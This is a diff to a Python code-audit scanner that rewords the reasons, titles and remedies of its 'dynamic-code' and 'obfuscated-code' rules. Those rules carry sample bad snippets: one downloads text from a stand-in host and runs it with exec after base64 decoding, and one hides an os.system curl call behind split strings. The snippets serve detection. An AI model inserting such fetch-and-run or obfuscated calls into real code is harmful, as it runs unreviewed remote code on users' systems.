@@ -62,10 +62,9 @@ RULES = (
         id="dynamic-code",
         severity="high",
         title="Runs text as code",
-        reason="`exec` and `eval` run what was decoded or downloaded, which nobody could review. High where the text "
-        "is decoded or comes from the network; low where it comes from elsewhere, since an agent may put anything "
-        "there.",
-        remedy="Write the code into a module; parse data with `json` or `ast.literal_eval`.",
+        reason="`exec` and `eval` run decoded or downloaded text that was never reviewed. High if the text is decoded "
+        "or comes from the network; low if it comes from elsewhere, since an agent may pass any text.",
+        remedy="Put the code in a module; parse data with `json` or `ast.literal_eval`.",
         bad=Example(
             text='import base64, requests\n\ncode = requests.get("https://acme.example/x").text\n'
             "exec(base64.b64decode(code))\n",
@@ -76,10 +75,10 @@ RULES = (
     Rule(
         id="obfuscated-code",
         severity="high",
-        title="Code that is written so that it cannot be read",
-        reason="Names and texts that are put together from pieces, packed JavaScript and renamed identifiers keep "
+        title="Obfuscated code",
+        reason="Names and texts that are assembled from pieces, packed JavaScript and renamed identifiers prevent "
         "reviewers and scanners from seeing what runs.",
-        remedy="Ship the source as it was written.",
+        remedy="Ship the original source.",
         bad=Example(
             text='import os\n\ngetattr(os, "sys" + "tem")("cu" + "rl https://acme.example/a")\n', path="scripts/run.py"
         ),
@@ -132,7 +131,7 @@ class _Reader:
         self.file = file
         self.tainted: dict[str, _Taint] = {}
         self.constants: dict[str, str] = {}
-        # What a name stands for by an import or an assignment: `web` for `requests`.
+        # What a name refers to by an import or an assignment: `web` for `requests`.
         self.names: dict[str, str] = {}
 
     def read(self, tree: ast.Module) -> Iterator[AuditFinding]:
@@ -194,7 +193,7 @@ class _Reader:
                     self.names[name] = value.id
 
     def name_of(self, function: ast.expr) -> str:
-        """Return the dotted name of a function, with what its first part stands for."""
+        """Return the dotted name of a function, with what its first part refers to."""
         first, dot, rest = dotted(function).partition(".")
         return f"{self.names.get(first, first)}{dot}{rest}"
 
